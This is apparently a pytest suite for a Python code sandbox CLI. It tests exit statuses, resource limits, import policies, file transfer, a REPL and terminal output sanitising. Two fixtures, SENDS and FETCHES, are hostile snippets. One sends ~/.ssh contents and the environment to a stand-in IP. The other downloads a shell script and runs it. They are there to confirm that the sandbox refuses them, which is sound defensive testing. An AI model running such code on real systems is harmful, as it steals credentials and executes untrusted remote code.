"""The commands as a user starts them: real processes, real jails, exit statuses, a terminal."""

import json
import os
import pty
import re
import select
import signal
import subprocess
import sys
import time
from collections.abc import Iterator, Sequence
from pathlib import Path

import psutil
import pytest

from sandbox import Completed, LimitExceeded, Raised, outcome_from_json
from sandbox.doctor.features import PROBED

ROOT = Path(__file__).parents[2]
COMMAND = (sys.executable, "-m", "runner")
ENDS_WITHIN_S = 60.0
MORE_WITHIN_S = 60.0
TAKE_TERMINAL = """
import fcntl, os, sys, termios
fcntl.ioctl(0, termios.TIOCSCTTY, 0)
os.execv(sys.argv[1], sys.argv[1:])
"""
"""Makes the terminal the one whose Ctrl-C interrupts the command."""
OSC = "\x1b]52;c;aGk=\x07"


@pytest.fixture
def here(tmp_path: Path) -> Path:
    """Where the command is started."""
    return tmp_path


def environment() -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": str(ROOT), "COLUMNS": "100", "TERM": "xterm"}


def cellblock(
    directory: Path, *arguments: str, stdin: str = ""
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*COMMAND, *arguments],
        cwd=directory,
        env=environment(),
        input=stdin,
        capture_output=True,
        text=True,
        timeout=ENDS_WITHIN_S,
    )


def run(
    directory: Path, code: str, *options: str, stdin: str = ""
) -> subprocess.CompletedProcess[str]:
    return cellblock(directory, "run", *options, "-c", code, stdin=stdin)


# ---- run: output and endings --------------------------------------------------------------------


def test_a_last_expression_is_echoed_as_a_repl_does(here: Path) -> None:
    ran = run(here, "print('before'); 123**21")
    assert ran.stdout == "before\n77269364466549865653073473388030061522211723\n"
    assert (ran.returncode, ran.stderr) == (0, "")


def test_stdout_and_stderr_come_out_where_the_snippet_wrote_them(here: Path) -> None:
    ran = run(here, "import sys; print('out'); print('err', file=sys.stderr)")
    assert (ran.returncode, ran.stdout, ran.stderr) == (0, "out\n", "err\n")


def test_bytes_that_are_no_text_reach_a_pipe_as_they_are(here: Path) -> None:
    wild = b"\xff\xc3\xa9\x00\r\n\xef\xbf\xbd\xe6\xbc"
    code = f"import os\nfor byte in {wild!r}: os.write(1, bytes([byte]))"
    ran = subprocess.run(
        [*COMMAND, "run", "-c", code], cwd=here, env=environment(), capture_output=True
    )
    assert (ran.stdout, ran.stderr, ran.returncode) == (wild, b"", 0)


def test_an_exception_is_a_traceback_on_stderr_and_status_1(here: Path) -> None:
    ran = run(here, "print('out')\n1/0")
    assert (ran.returncode, ran.stdout) == (1, "out\n")
    assert ran.stderr == (
        'Traceback (most recent call last):\n  File "<snippet 1>", line 2, in <module>\n'
        "    1/0\n    ~^~\nZeroDivisionError: division by zero\n"
    )


def test_a_snippet_without_end_is_stopped_with_status_124(here: Path) -> None:
    ran = run(here, "print('once')\nwhile True: pass", "--timeout", "0.3")
    assert (ran.returncode, ran.stdout) == (124, "once\n")
    assert re.fullmatch(
        r"cellblock: stopped: out of time \(wall_s 0\.3\d* s, allowed 0\.3 s\)\n", ran.stderr
    )


def test_memory_above_the_option_is_refused_with_status_124(here: Path) -> None:
    ran = run(here, "x = bytearray(b'x') * 10**9", "--memory", "64")
    assert ran.returncode == 124
    assert "out of memory" in ran.stderr


def test_a_process_that_ends_by_itself_died_with_status_137(here: Path) -> None:
    ran = run(here, "import os; os._exit(3)")
    assert (ran.returncode, ran.stderr) == (137, "cellblock: died with exit status 3\n")


@pytest.mark.parametrize(
    ("argument", "status", "words"),
    [("3", 1, ""), ("124", 1, ""), ("'3'", 1, "3\n"), ("None", 0, ""), ("0", 0, "")],
)
def test_a_program_that_exits_cannot_pose_as_another_ending(
    here: Path, argument: str, status: int, words: str
) -> None:
    ran = run(here, f"import sys; sys.exit({argument})")
    assert (ran.returncode, ran.stderr) == (status, words)


def test_what_the_language_level_refuses_never_runs_and_has_status_126(here: Path) -> None:
    (here / "policy.toml").write_text('language = "restricted"\n')
    ran = run(here, "print('ran')\nexec('1')", "--policy", "policy.toml")
    assert (ran.returncode, ran.stdout) == (126, "")
    assert ran.stderr.startswith("cellblock: refused, nothing ran: line 2: ")


def test_an_engine_that_cannot_start_has_status_125_and_says_why(here: Path) -> None:
    (here / "policy.toml").write_text('preload = ["no_such_module"]\n')
    ran = run(here, "1", "--policy", "policy.toml", "--json")
    assert (ran.returncode, ran.stdout) == (125, "")
    assert ran.stderr.startswith("cellblock: Preloading 'no_such_module' with ")


def test_output_comes_while_the_snippet_runs_and_an_interrupt_ends_it(here: Path) -> None:
    code = "import time\nprint('first', flush=True)\ntime.sleep(60)"
    with subprocess.Popen(
        [*COMMAND, "run", "-c", code],
        cwd=here,
        env=environment(),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    ) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == b"first\n"
        process.send_signal(signal.SIGINT)
        assert process.wait(timeout=ENDS_WITHIN_S) == 130


def test_a_reader_that_goes_away_ends_the_run_quietly(here: Path) -> None:
    code = "while True: print('x' * 1000)"
    with subprocess.Popen(
        [*COMMAND, "run", "-c", code],
        cwd=here,
        env=environment(),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    ) as process:
        assert process.stdout is not None
        assert process.stdout.readline().startswith(b"xxx")
        process.stdout.close()
        assert process.wait(timeout=ENDS_WITHIN_S) == 141
        assert process.stderr is not None
        assert process.stderr.read() == b""


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGKILL])
def test_a_command_that_is_killed_takes_its_jail_along(here: Path, number: int) -> None:
    code = "print('up', flush=True)\nwhile True: pass"
    with subprocess.Popen(
        [*COMMAND, "run", "-c", code], cwd=here, env=environment(), stdout=subprocess.PIPE
    ) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == b"up\n"
        below = psutil.Process(process.pid).children(recursive=True)
        assert len(below) >= 3
        process.send_signal(number)
        assert process.wait(timeout=ENDS_WITHIN_S) == -number
    _gone, alive = psutil.wait_procs(below, timeout=5)
    assert alive == []


# ---- run: the snippet and its files -------------------------------------------------------------


def test_the_snippet_may_be_a_file_or_standard_input(here: Path) -> None:
    (here / "snippet.py").write_text("6 * 7")
    assert cellblock(here, "run", "snippet.py").stdout == "42\n"
    assert cellblock(here, "run", "-", stdin="6 * 8").stdout == "48\n"


def test_a_file_is_read_in_the_encoding_that_it_declares(here: Path) -> None:
    (here / "snippet.py").write_bytes("# coding: latin-1\nprint('é')".encode("latin-1"))
    assert cellblock(here, "run", "snippet.py").stdout == "é\n"


def test_a_snippet_reads_only_the_standard_input_that_it_is_given(here: Path) -> None:
    assert run(here, "input()", stdin="secret\n").returncode == 1
    assert run(here, "input()", "--stdin", "-", stdin="given\n").stdout == "'given'\n"
    (here / "lines.txt").write_text("one\ntwo\n")
    assert run(here, "import sys; len(sys.stdin.readlines())", "--stdin", "lines.txt").stdout == (
        "2\n"
    )


def test_files_go_in_and_come_out(here: Path) -> None:
    (here / "a.txt").write_text("A")
    (here / "tree" / "deep").mkdir(parents=True)
    (here / "tree" / "deep" / "b.txt").write_text("B")
    os.mkfifo(here / "tree" / "fifo")
    code = (
        "import os; os.mkdir('made')\n"
        "text = open('a.txt').read() + open('tree/deep/b.txt').read()\n"
        "open('made/c.txt', 'w').write(text); os.listdir('tree')"
    )
    ran = run(here, code, "--put", "a.txt", "--put", "tree", "--get", "made/c.txt")
    assert (ran.returncode, ran.stdout, ran.stderr) == (0, "['deep']\n", "")
    assert (here / "c.txt").read_text() == "AB"


def test_a_file_that_comes_out_replaces_a_link_and_is_not_written_through_it(here: Path) -> None:
    (here / "precious").write_text("mine")
    (here / "out.txt").symlink_to("precious")
    assert run(here, "open('out.txt', 'w').write('x')", "--get", "out.txt").returncode == 0
    assert (here / "precious").read_text() == "mine"
    assert not (here / "out.txt").is_symlink()
    assert sorted(path.name for path in here.iterdir()) == ["out.txt", "precious"]


def test_files_of_a_snippet_that_was_killed_come_out(here: Path) -> None:
    code = "open('out.txt', 'w').write('x')\nimport os; os._exit(1)"
    assert run(here, code, "--get", "out.txt").returncode == 137
    assert (here / "out.txt").read_text() == "x"


def test_a_file_that_is_not_there_is_told_with_status_125(here: Path) -> None:
    ran = run(here, "1", "--get", "nothing.txt")
    assert (ran.returncode, ran.stdout) == (125, "1\n")
    assert ran.stderr == "cellblock: File 'nothing.txt' was refused: there is no such file.\n"
    assert list(here.iterdir()) == []


def test_a_file_that_does_not_fit_is_refused_before_anything_runs(here: Path) -> None:
    (here / "policy.toml").write_text("[limits]\nworkspace_bytes = 65536\n")
    (here / "big").write_bytes(bytes(100_000))
    ran = run(here, "print('ran')", "--put", "big", "--policy", "policy.toml")
    assert (ran.returncode, ran.stdout) == (125, "")
    assert "exceed workspace_bytes 65536" in ran.stderr


# ---- run: the outcome as JSON, and its account --------------------------------------------------


def test_json_is_the_outcome_and_nothing_else(here: Path) -> None:
    ran = run(here, "import sys; print('out'); print('err', file=sys.stderr); 1/0", "--json")
    assert (ran.returncode, ran.stderr) == (1, "")
    assert ran.stdout.count("\n") == 1
    outcome = outcome_from_json(ran.stdout)
    assert isinstance(outcome, Raised)
    assert (outcome.stdout, outcome.stderr) == ("out\n", "err\n")
    assert outcome.error.type == "ZeroDivisionError"


def test_json_keeps_what_a_snippet_shows(here: Path) -> None:
    ran = run(here, "display({'text/plain': 'x', 'text/html': '<b>x</b>'}, raw=True); 5", "--json")
    outcome = outcome_from_json(ran.stdout)
    assert isinstance(outcome, Completed)
    assert outcome.text == "5"
    assert outcome.displays == ({"text/plain": "x", "text/html": "<b>x</b>"},)


def test_the_text_of_what_is_shown_comes_out_and_that_of_the_echo_once(here: Path) -> None:
    code = "\n".join(
        [
            "class Table:",
            "    def __repr__(self): return 'table'",
            "    def _repr_html_(self): return '<table>'",
            "display({'text/plain': 'shown'}, raw=True); Table()",
        ]
    )
    assert run(here, code).stdout == "shown\ntable\n"


def test_the_account_names_what_was_refused(here: Path) -> None:
    (here / "policy.toml").write_text('imports = "data"\n')
    code = "try:\n    import socket\nexcept ImportError:\n    print('well')"
    ran = run(here, code, "--policy", "policy.toml", "--explain")
    assert (ran.returncode, ran.stdout) == (0, "well\n")
    lines = [line.rstrip() for line in ran.stderr.splitlines()]
    assert lines[:6] == [
        "warning  tried to import socket: refused by the import policy",
        "ended    completed",
        "state    variables are as the snippet left them",
        "imports  socket (line 2): refused, socket -> refuse: the jail has no network",
        "refused  import_policy: socket (line 2)",
        "         rule: socket -> refuse",
    ]
    assert lines[6].startswith("         hint: the jail has no network.")
    assert any(line.startswith("tier     namespaces; 14 layers held: user_n") for line in lines)
    assert any(line.startswith("bill     ") for line in lines)


def test_the_account_goes_beside_the_json(here: Path) -> None:
    ran = run(here, "while True: pass", "--timeout", "0.2", "--json", "--explain")
    assert ran.returncode == 124
    outcome = outcome_from_json(ran.stdout)
    assert isinstance(outcome, LimitExceeded)
    assert outcome.verdict is not None
    said = f"{outcome.verdict.severity}  {outcome.verdict.reason}\nended    stopped: out of time"
    assert ran.stderr.startswith(said)


SENDS = """\
import os, urllib.request
found = []
for folder, _, names in os.walk(os.path.expanduser('~/.ssh')):
    found += [open(os.path.join(folder, name)).read() for name in names]
urllib.request.urlopen('http://203.0.113.10/x', data=repr((found, dict(os.environ))).encode())
"""
FETCHES = """\
import subprocess, urllib.request
urllib.request.urlretrieve('http://203.0.113.10/stage.sh', 'stage.sh')
subprocess.run(['sh', 'stage.sh'])
"""


def test_a_snippet_that_sends_secrets_is_told_so_though_nothing_got_out(here: Path) -> None:
    ran = run(here, SENDS, "--explain", "--keep-going")
    first = " ".join(ran.stderr[ran.stderr.index("danger ") :].split()[:20])
    assert first.startswith(
        "danger tried to send credentials and its environment to http://203.0.113.10/x:"
        " refused by the network namespace"
    )


def test_a_snippet_that_runs_a_download_is_told_so_though_nothing_came(here: Path) -> None:
    ran = run(here, FETCHES, "--explain")
    first = " ".join(ran.stderr[ran.stderr.index("danger ") :].split()[:18])
    assert first.startswith(
        "danger tried to download and run a script from http://203.0.113.10/stage.sh:"
        " refused by the network namespace"
    )


def test_a_report_and_a_log_are_written_and_the_log_verified(here: Path) -> None:
    for code in (FETCHES, "1 + 1"):
        run(here, code, "--report", "report.md", "--trace", "runs.log")
    assert "nothing was found in its source" in (here / "report.md").read_text()
    ran = cellblock(here, "trace", "verify", "runs.log")
    assert (ran.returncode, ran.stderr) == (0, "")
    assert ran.stdout.startswith("runs.log: whole, ")
    assert "of 2 runs" in ran.stdout
    lines = (here / "runs.log").read_text().splitlines(keepends=True)
    changed = "".join([lines[0].replace("snippet", "Snippet"), *lines[1:]])
    (here / "changed.log").write_text(changed)
    ran = cellblock(here, "trace", "verify", "changed.log")
    assert (ran.returncode, ran.stderr) == (1, "changed.log: line 1: was changed\n")
    ran = run(here, "1 + 1", "--trace", "changed.log")
    assert ran.returncode == 125
    assert "nothing was added" in ran.stderr
    assert (here / "changed.log").read_text() == changed


def test_keeping_going_softens_a_policy_that_ends_the_process(here: Path) -> None:
    rules = '[[imports.rules]]\npattern = "socket"\naction = "kill"\n'
    (here / "policy.toml").write_text(rules)
    code = "import socket\nopen('/srv/next')"
    ran = run(here, code, "--policy", "policy.toml", "--json", "--keep-going")
    outcome = outcome_from_json(ran.stdout)
    assert outcome.status == "raised"
    assert {row.tried for row in outcome.attempts if not row.is_allowed} == {
        "socket",
        "/srv/next",
    }


# ---- check and doctor ---------------------------------------------------------------------------


def test_a_check_runs_nothing_and_exits_with_0_when_nothing_would_be_refused(here: Path) -> None:
    (here / "snippet.py").write_text("import math\nprint('ran')")
    ran = cellblock(here, "check", "snippet.py")
    assert (ran.returncode, ran.stderr) == (0, "")
    assert [line.split() for line in ran.stdout.splitlines()[:2]] == [
        ["imports", "line", "action", "rule"],
        ["math", "1", "allow", "default"],
    ]
    assert "ran" not in ran.stdout.split()


def test_a_check_names_what_the_policy_would_refuse_with_status_126(here: Path) -> None:
    (here / "policy.toml").write_text('imports = "data"\npreload = ["pandas"]\n')
    (here / "snippet.py").write_text("import pandas\nimport socket")
    ran = cellblock(here, "check", "snippet.py", "--policy", "policy.toml", "--json")
    assert ran.returncode == 126
    found = json.loads(ran.stdout)
    assert [(row["module"], row["action"]) for row in found["imports"]] == [
        ("pandas", "allow"),
        ("socket", "refuse"),
    ]
    assert [(row["line"], row["construct"]) for row in found["refusals"]] == [(2, "import socket")]


def test_a_check_of_the_restricted_level_names_constructs(here: Path) -> None:
    (here / "policy.toml").write_text('language = "restricted"\n')
    ran = cellblock(here, "check", "-", "--policy", "policy.toml", stdin="x = 1\nexec('x')\n")
    assert ran.returncode == 126
    assert re.search(r"^2 .*[Ee]xec", ran.stdout, re.MULTILINE)


def test_a_check_of_what_is_no_python_exits_as_its_run_would(here: Path) -> None:
    assert cellblock(here, "check", "-", stdin="def f(:").returncode == 1
    assert cellblock(here, "run", "-", stdin="def f(:").returncode == 1


def test_the_doctor_reports_on_every_layer(here: Path) -> None:
    told = cellblock(here, "doctor")
    assert told.returncode in (0, 125)
    assert told.stdout.startswith("The default tier, namespaces, is ")
    report = json.loads(cellblock(here, "doctor", "--json").stdout)
    assert [row["layer"] for row in report["layers"]] == list(PROBED)
    assert ("namespaces" in report["tiers"]) == (told.returncode == 0)


# ---- repl ---------------------------------------------------------------------------------------


def test_a_repl_keeps_variables_and_shows_echoes(here: Path) -> None:
    lines = "x = 20\nfor i in range(2):\n    print(i)\n\nx + 1\n1/0\nx + 2\n"
    ran = cellblock(here, "repl", stdin=lines)
    assert ran.returncode == 0
    assert ran.stdout == "0\n1\n21\n22\n"
    assert "ZeroDivisionError: division by zero\n" in ran.stderr


def test_a_repl_tells_of_limits_and_of_what_became_of_the_variables(here: Path) -> None:
    (here / "policy.toml").write_text("[limits]\nwall_s = 1\ngrace_s = 0.1\n")
    stubborn = (
        "while True:\n    try:\n        while True:\n            x += 1\n"
        "    except KeyboardInterrupt: x = 0\n\n"
    )
    lines = f"x = 1\nx = 2\nwhile True: pass\n\nx\n{stubborn}x\nimport os; x = 3; os._exit(9)\nx\n"
    ran = cellblock(here, "repl", "--policy", "policy.toml", stdin=lines)
    assert ran.stdout == "2\n2\n2\n"
    said = re.findall(r"# (stopped|died).*; (.*)", ran.stderr)
    assert said == [
        ("stopped", "variables are as the snippet left them"),
        ("stopped", "variables are as they were before the snippet"),
        ("died", "variables are as they were before the snippet"),
    ]


def test_a_repl_goes_on_in_a_new_session_when_one_is_lost(here: Path) -> None:
    (here / "policy.toml").write_text("survive = false\n")
    ran = cellblock(
        here, "repl", "--policy", "policy.toml", stdin="x = 1\nimport os; os._exit(9)\n6 * 7\n"
    )
    assert (ran.returncode, ran.stdout) == (0, "42\n")
    assert "# died with exit status 9; variables and files are gone\n" in ran.stderr
    assert "# a new session was opened\n" in ran.stderr


def test_a_repl_saves_what_is_more_than_text_and_tells_where(here: Path) -> None:
    code = "display({'text/plain': 'shown', 'text/html': '<b>x</b>'}, raw=True)\n"
    ran = cellblock(here, "repl", "--save", "shown", stdin=code)
    assert ran.stdout == "shown\n"
    assert "# saved shown/001.html\n" in ran.stderr
    assert (here / "shown" / "001.html").read_text() == "<b>x</b>"


def test_a_repl_copies_files_both_ways(here: Path) -> None:
    (here / "in.txt").write_text("abc")
    lines = "%put in.txt\nopen('out.txt', 'w').write(open('in.txt').read().upper())\n%get out.txt\n"
    ran = cellblock(here, "repl", stdin=f"{lines}%files\n%get nothing\n%conjure\n")
    assert ran.stdout == "3\nin.txt\nout.txt\n"
    assert (here / "out.txt").read_text() == "ABC"
    assert "# made out.txt, 3 B\n" in ran.stderr
    assert "File 'nothing' was refused: there is no such file.\n" in ran.stderr
    assert "# %help" in ran.stderr


# ---- a terminal ---------------------------------------------------------------------------------


class Terminal:
    """A command whose three standard streams are one terminal."""

    def __init__(self, directory: Path, arguments: Sequence[str]) -> None:
        self._fd, other = pty.openpty()
        self._seen = ""
        self.process = subprocess.Popen(
            [sys.executable, "-c", TAKE_TERMINAL, *COMMAND, *arguments],
            cwd=directory,
            env=environment(),
            stdin=other,
            stdout=other,
            stderr=other,
            start_new_session=True,
        )
        os.close(other)

    def type(self, text: str) -> None:
        os.write(self._fd, text.encode())

    def until(self, wanted: str) -> str:
        """All that was shown since the last call, up to and with `wanted`."""
        deadline = time.monotonic() + MORE_WITHIN_S
        while wanted not in self._seen:
            left = deadline - time.monotonic()
            assert left > 0, f"{wanted!r} never came, but {self._seen!r}"
            if select.select([self._fd], [], [], left)[0]:
                try:
                    self._seen += os.read(self._fd, 65536).decode()
                except OSError:  # The other end is closed: a terminal's end of file.
                    raise AssertionError(f"{wanted!r} never came, but {self._seen!r}") from None
        shown, found, self._seen = self._seen.partition(wanted)
        return shown + found

    def rest(self) -> str:
        """All that is shown until the command has ended."""
        while True:
            try:
                self._seen += os.read(self._fd, 65536).decode()
            except OSError:
                return self._seen

    def close(self) -> None:
        self.process.kill()
        self.process.wait()
        os.close(self._fd)


@pytest.fixture
def terminal(here: Path) -> Iterator[type[Terminal]]:
    """Opens terminals; those that are open at the end of the test are closed."""
    opened: list[Terminal] = []

    class Opened(Terminal):
        def __init__(self, directory: Path, arguments: Sequence[str]) -> None:
            super().__init__(directory, arguments)
            opened.append(self)

    yield Opened
    for one in opened:
        one.close()


def test_a_terminal_shows_controls_and_a_pipe_passes_them(
    here: Path, terminal: type[Terminal]
) -> None:
    code = f"print({OSC!r} + '\\x1b[31mred\\x1b[0m'); raise ValueError({OSC!r})"
    shown = terminal(here, ["run", "-c", code]).rest()
    assert "\\x1b]52;c;aGk=\\x07\x1b[31mred\x1b[0m" in shown
    assert "ValueError: \\x1b]52;c;aGk=\\x07" in shown
    assert "\x1b]" not in shown
    assert "\x07" not in shown
    assert run(here, code).stdout == f"{OSC}\x1b[31mred\x1b[0m\n"


def test_at_a_terminal_an_interrupt_ends_the_snippet_and_not_the_session(
    here: Path, terminal: type[Terminal]
) -> None:
    (here / "patient.toml").write_text("[limits]\ngrace_s = 30\n")
    opened = terminal(here, ["repl", "--policy", "patient.toml"])
    opened.until(">>> ")
    opened.type("x = 'kept'\n")
    opened.until(">>> ")
    opened.type("print('go', flush=True); import time; time.sleep(60)\n")
    opened.until("go\r\n")
    opened.type("\x03")
    told = opened.until("# interrupted; ")
    assert 'File "<snippet 2>", line 1' in told
    assert "KeyboardInterrupt" in told
    opened.until(">>> ")
    opened.type("half a (line\x03")
    opened.until(">>> ")
    opened.type("x * 2\n")
    opened.until("'keptkept'")
    opened.until(">>> ")
    opened.type("\x04")
    opened.rest()
    assert opened.process.wait(timeout=ENDS_WITHIN_S) == 0


def test_at_a_terminal_a_repl_shows_no_control_of_the_guests(
    here: Path, terminal: type[Terminal]
) -> None:
    opened = terminal(here, ["repl"])
    opened.until(">>> ")
    opened.type("wild = chr(27) + ']0;title' + chr(7); print(wild + chr(0x202e))\n")
    assert "\\x1b]0;title\\x07\\u202e\r\n" in opened.until(">>> ")
    opened.type("open(wild, 'w').close()\n")
    assert "# made \\x1b]0;title\\x07" in opened.until(">>> ")
    opened.type("raise ValueError(wild)\n")
    assert "ValueError: \\x1b]0;title\\x07" in opened.until(">>> ")
